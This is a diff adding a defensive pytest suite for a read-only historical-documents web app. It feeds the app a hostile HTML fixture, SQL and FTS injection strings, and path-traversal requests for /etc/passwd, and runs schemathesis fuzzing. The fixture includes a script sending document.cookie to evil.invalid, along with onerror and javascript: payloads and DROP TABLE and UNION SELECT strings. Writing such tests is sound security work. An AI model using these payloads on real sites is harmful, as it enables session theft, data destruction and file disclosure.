@@ -1,0 +1,312 @@
+"""Hostile text and hostile requests against the web app: markup and script in documents,
+SQL and FTS5 syntax in queries, path traversal, absurd lengths, invalid dates, write
+methods; plus schemathesis over the app's OpenAPI schema. Everything runs in-process
+against the ASGI app; nothing is executed, nothing leaks, nothing is a 5xx."""
+
+from __future__ import annotations
+
+import asyncio
+import warnings
+from pathlib import Path
+from urllib.parse import unquote_to_bytes
+
+import pytest
+import schemathesis
+from bs4 import BeautifulSoup
+from chronicle import build
+from click.testing import CliRunner
+from hypothesis import HealthCheck, given, settings
+from hypothesis.errors import Unsatisfiable
+
+import cliograph
+from cliograph.cli import cli
+from cliograph.store import Store
+from cliograph.web import make_app
+
+with warnings.catch_warnings():  # starlette asks for httpx2; httpx works the same here
+    warnings.simplefilter("ignore")
+    from fastapi.testclient import TestClient
+
+ROOT = Path(__file__).resolve().parent.parent
+
+HOSTILE_HTML = """<!doctype html><html><head>
+<title>Hostile &lt;script&gt;alert('t')&lt;/script&gt;</title>
+<script>fetch('http://evil.invalid/?c=' + document.cookie)</script>
+<meta http-equiv="refresh" content="0; url=http://evil.invalid/"></head><body>
+<p>In 1919 an agitator in Petrograd wrote &lt;script&gt;alert(1)&lt;/script&gt; on a wall,
+and Zinoviev laughed.</p>
+<p>Trotsky answered &lt;img src=x onerror=alert(2)&gt; and
+&lt;a href="javascript:alert(3)"&gt;click&lt;/a&gt; in the newspaper, and Lenin &amp; Kamenev
+read it in 1920.</p>
+<p>The clerk Robert'); DROP TABLE facts;-- Smith was appointed Secretary of the Soviet in 1921.</p>
+<img src=x onerror="alert(4)"><iframe src="http://evil.invalid/"></iframe>
+<p onclick="alert(5)">Kamenev opposed Zinoviev in {{ 7*7 }} and {% raw %} in 1922.</p>
+</body></html>"""
+
+MARKERS = ("alert(", "onerror", "javascript:", "DROP TABLE", "{{ 7*7 }}")
+
+
+@pytest.fixture(scope="module")
+def hostile_db(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("hostile")
+    page = folder / "hostile.html"
+    page.write_text(HOSTILE_HTML, encoding="utf-8")
+    db = folder / "hostile.db"
+    store = Store(db)
+    ids = build(store)
+    store.close()
+    report = cliograph.ingest([page], db=db)
+    assert report.ok, report.failed
+    ids["hostile"] = report.ingested[0].doc_id
+    return db, ids
+
+
+@pytest.fixture(scope="module")
+def app(hostile_db):
+    return make_app(hostile_db[0])
+
+
+@pytest.fixture(scope="module")
+def client(app):
+    with TestClient(app, raise_server_exceptions=False) as c:
+        yield c
+
+
+def table_counts(db: Path) -> dict[str, int]:
+    store = Store(db, create=False)
+    try:
+        return {t: store.db[t].count for t in ("documents", "entities", "facts", "mentions",
+                                                "sentences", "aliases", "corrections")}
+    finally:
+        store.close()
+
+
+def asgi(app, target: bytes, method: str = "GET") -> tuple[int, dict[str, str], bytes]:
+    """One request straight into the ASGI app, with the path exactly as given: HTTP
+    clients normalise dot segments and refuse long URLs, a hostile peer does not."""
+    path, _, query = target.partition(b"?")
+    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1",
+             "method": method, "scheme": "http", "root_path": "", "raw_path": path,
+             "path": unquote_to_bytes(path).decode("utf-8", "replace"), "query_string": query,
+             "headers": [(b"host", b"testserver")], "client": ("127.0.0.1", 50000),
+             "server": ("testserver", 80)}
+    out: dict = {"status": 0, "headers": {}, "body": b""}
+
+    async def receive() -> dict:
+        return {"type": "http.request", "body": b"", "more_body": False}
+
+    async def send(message: dict) -> None:
+        if message["type"] == "http.response.start":
+            out["status"] = message["status"]
+            out["headers"] = {k.decode(): v.decode() for k, v in message["headers"]}
+        elif message["type"] == "http.response.body":
+            out["body"] += message.get("body", b"")
+
+    asyncio.run(app(scope, receive, send))
+    return out["status"], out["headers"], out["body"]
+
+
+def assert_no_injected_markup(html: str) -> None:
+    page = BeautifulSoup(html, "html.parser")
+    for script in page.find_all("script"):
+        assert script.get("src", "").startswith("/static/"), script
+    for tag in page.find_all(True):
+        assert not any(a.lower().startswith("on") for a in tag.attrs), tag
+        for attr in ("href", "src", "action"):
+            assert not str(tag.get(attr, "")).lower().startswith("javascript:"), tag
+    for tag in ("iframe", "img", "meta[http-equiv]", "object", "embed"):
+        assert not page.select(tag), tag
+
+
+# ------------------------------------------------------------------ hostile documents
+
+def test_hostile_html_reader_drops_live_markup_keeps_text_as_text(hostile_db):
+    store = Store(hostile_db[0], create=False)
+    text = store.db["documents"].get(hostile_db[1]["hostile"])["text"]
+    store.close()
+    assert "<script>alert(1)</script>" in text  # the page's *text*, escaped in the source
+    assert "fetch(" not in text and "evil.invalid" not in text and "alert(4)" not in text
+    assert "alert(5)" not in text and "{{ 7*7 }}" in text
+
+
+def test_hostile_document_every_page_escapes_it(client, hostile_db):
+    doc = hostile_db[1]["hostile"]
+    entity_ids = [e["id"] for e in client.get("/entities.json").json()["entities"]]
+    urls = ["/", "/entities", "/timeline", "/network", "/state", f"/document/{doc}",
+            f"/document/{doc}?at=0-40", "/search?q=alert", "/search?q=DROP+TABLE",
+            "/search?q=onerror", "/search?q=javascript"]
+    urls += [f"/entity/{eid}" for eid in entity_ids]
+    for url in urls:
+        r = client.get(url)
+        assert r.status_code == 200, url
+        assert "<script>alert" not in r.text and "<img src=x" not in r.text, url
+        assert_no_injected_markup(r.text)
+        assert "script-src 'self'" in r.headers["content-security-policy"]
+    reader = BeautifulSoup(client.get(f"/document/{doc}").text, "html.parser")
+    assert "{{ 7*7 }}" in reader.select_one("#text").get_text()  # no template evaluation
+    twin = client.get(f"/document/{doc}.json")
+    assert twin.headers["content-type"].startswith("application/json")
+    assert "<script>alert(1)</script>" in twin.json()["text"]  # data stays data
+
+
+# ------------------------------------------------------------------ hostile queries
+
+SEARCHES = ["' OR 1=1 --", 'x"); DROP TABLE facts;--', "Robert'); DROP TABLE facts;--",
+            "NEAR(", "NEAR(a b", "*", '"', '""', "a*b", "^Lenin", "Lenin OR", "AND", "NOT x",
+            "text:Lenin", "{text}: x", "x:", "(", ")", "%", "_", "\\", "\x00", "a\x00b",
+            "\ud7ff\ue000", "Lenin' UNION SELECT text FROM documents --", "1; ATTACH 'x' AS y",
+            "<script>alert(1)</script>", "${7*7}", "{{7*7}}", " ", "-", "--", ";"]
+
+
+@pytest.mark.parametrize("q", SEARCHES)
+def test_search_with_sql_and_fts_syntax_is_only_words(client, hostile_db, q):
+    before = table_counts(hostile_db[0])
+    r = client.get("/search.json", params={"q": q})
+    assert r.status_code == 200, r.text
+    data = r.json()
+    assert data["ok"] is True and data["q"] == q
+    page = client.get("/search", params={"q": q})
+    assert page.status_code == 200
+    assert_no_injected_markup(page.text)
+    assert table_counts(hostile_db[0]) == before
+
+
+@pytest.mark.parametrize("url", [
+    "/entity/' OR 1=1 --.json", "/entity/x\"); DROP TABLE facts;--.json",
+    "/document/' OR '1'='1.json", "/timeline.json?entity=' OR 1=1 --",
+    "/timeline.json?entity=%00", "/timeline.json?entity=%25", "/timeline.json?entity=_",
+    "/timeline.json?kind=PERSON' OR 1=1 --", "/timeline.json?type=KIN;DROP TABLE facts",
+    "/entities.json?kind=PERSON' --", "/document/x.json?at=1-2;DROP TABLE facts",
+])
+def test_sql_in_ids_and_filters_is_a_4xx(client, hostile_db, url):
+    before = table_counts(hostile_db[0])
+    r = client.get(url)
+    assert 400 <= r.status_code < 500, (url, r.status_code, r.text[:200])
+    data = r.json()
+    assert data["ok"] is False and "\n" not in data["error"]
+    assert table_counts(hostile_db[0]) == before
+
+
+@pytest.mark.parametrize("target", [
+    b"/document/..%2f..%2fetc%2fpasswd", b"/document/..%2f..%2fetc%2fpasswd.json",
+    b"/document/../../etc/passwd", b"/static/../../pyproject.toml",
+    b"/static/..%2f..%2fpyproject.toml", b"/static/%2e%2e/%2e%2e/pyproject.toml",
+    b"/static/../app.py", b"/static/../templates/base.html", b"/static/vendor/../../views.py",
+    b"/static/....//....//pyproject.toml", b"/static/%252e%252e/pyproject.toml",
+    b"/static//etc/passwd", b"/static/%00", b"/entity/..%2f..%2fpyproject.toml.json",
+    b"/../../etc/passwd", b"/%2e%2e/%2e%2e/etc/passwd",
+])
+def test_path_traversal_is_a_404_and_leaks_nothing(app, target):
+    status, _, body = asgi(app, target)
+    assert status in (400, 404), (target, status)
+    assert b"root:" not in body and b"[build-system]" not in body
+    assert b"def make_app" not in body and b"{% block" not in body
+
+
+@pytest.mark.parametrize("target", [
+    b"/search.json?q=" + b"a" * 100_000, b"/search?q=" + b"a" * 100_000,
+    b"/state.json?date=" + b"1" * 100_000, b"/network.json?at=" + b"9" * 100_000,
+    b"/timeline.json?entity=" + b"x" * 100_000, b"/entities.json?kind=" + b"P" * 100_000,
+    b"/document/x.json?at=" + b"1" * 100_000,
+])
+def test_absurdly_long_query_is_a_400(app, target):
+    status, headers, body = asgi(app, target)
+    assert status == 400, (target[:40], status, body[:200])
+    assert len(body) < 20_000  # the error names the parameter; it does not echo 100k back
+
+
+@pytest.mark.parametrize("target", [
+    b"/entity/" + b"a" * 100_000 + b".json", b"/document/" + b"f" * 100_000 + b".json",
+    b"/timeline.json?" + b"&".join(b"kind=PERSON" for _ in range(10_000)),
+    b"/search.json?" + b"&".join(b"x%d=y" % i for i in range(20_000)),
+])
+def test_huge_paths_and_many_parameters_are_no_server_error(app, target):
+    status, _, _ = asgi(app, target)
+    assert status < 500
+
+
+@pytest.mark.parametrize("date", ["2022-13-45", "-99999", "abc", "1922-02-30", "0000-00-00",
+                                  "99999999999999999999", "1922-5-1", "1922-05-01T00:00",
+                                  "<script>", "1922/1923", "%00"])
+def test_invalid_dates_are_a_400(client, date):
+    for url in (f"/state.json?date={date}", f"/network.json?at={date}",
+                f"/network.json?from={date}", f"/network.json?to={date}"):
+        r = client.get(url)
+        assert r.status_code == 400, (url, r.status_code, r.text[:200])
+        assert r.json()["error"].startswith("invalid date")
+    page = client.get("/state", params={"date": date})
+    assert page.status_code == 400 and "<script>" not in page.text.split("</head>")[1]
+
+
+# ------------------------------------------------------------------ read-only, localhost
+
+def test_no_write_methods_anywhere(app, client):
+    paths = {r.path for r in app.routes if hasattr(r, "methods")}
+    paths = {p.replace("{entity_id}", "joseph-stalin").replace("{doc_id}", "x") for p in paths}
+    paths |= {"/static/app.css", "/nowhere"}
+    for path in sorted(paths):
+        for method in ("POST", "PUT", "DELETE", "PATCH"):
+            status, _, body = asgi(app, path.encode(), method)
+            assert status in (404, 405), (method, path, status)
+            assert status == 405 or path == "/nowhere"
+
+
+def test_the_app_connection_cannot_write(app, hostile_db):
+    import sqlite3
+
+    with pytest.raises(sqlite3.OperationalError, match="readonly|read-only|query_only"):
+        app.state.store.db.execute("delete from facts")
+    assert table_counts(hostile_db[0])["facts"] > 0
+
+
+def test_serve_binds_loopback_by_default(tmp_path, monkeypatch):
+    import uvicorn
+
+    db = tmp_path / "x.db"
+    Store(db).close()
+    seen = {}
+    monkeypatch.setattr(uvicorn, "run", lambda app, **kw: seen.update(kw))
+    result = CliRunner().invoke(cli, ["serve", "--db", str(db)])
+    assert result.exit_code == 0, result.output
+    assert seen["host"] == "127.0.0.1"
+    assert "http://127.0.0.1:" in result.output
+
+
+# ------------------------------------------------------------------ schemathesis
+
+@pytest.mark.parametrize("mode", ["positive", "negative"])
+def test_schemathesis_no_server_errors(hostile_db, mode):
+    """Every operation of the app's OpenAPI schema, with data that fits it (positive) and
+    data that breaks it (negative), through the in-process ASGI app: never a 5xx.
+
+    Driven through Hypothesis directly: schemathesis's pytest fixture loader does not run
+    under pytest 9 (it reads a private node attribute that pytest renamed). Each run gets
+    its own app: schemathesis's pytest plugin shuts an app's lifespan down after a test,
+    and the app closes its store then."""
+    app = make_app(hostile_db[0])
+    schema = schemathesis.openapi.from_dict(app.openapi())
+    schema.app = app  # case.call() goes to the ASGI app, never the network
+    generation = schemathesis.GenerationMode(mode)
+    failures: list[tuple] = []
+    calls = 0
+    for result in schema.get_all_operations():
+        operation = result.ok()
+
+        @given(case=operation.as_strategy(generation_mode=generation))
+        @settings(max_examples=30, deadline=None, database=None, derandomize=True,
+                  suppress_health_check=list(HealthCheck))
+        def check(case) -> None:
+            nonlocal calls
+            calls += 1
+            response = case.call()
+            if response.status_code >= 500:
+                failures.append((case.method, case.formatted_path, case.query,
+                                 response.status_code, response.text[:200]))
+
+        try:
+            check()
+        except Unsatisfiable:  # no parameter to break: nothing negative to send
+            assert mode == "negative", operation.label
+    print(f"\nschemathesis ({mode}): {calls} calls, {len(failures)} server errors")
+    assert calls >= 100
+    assert failures == []
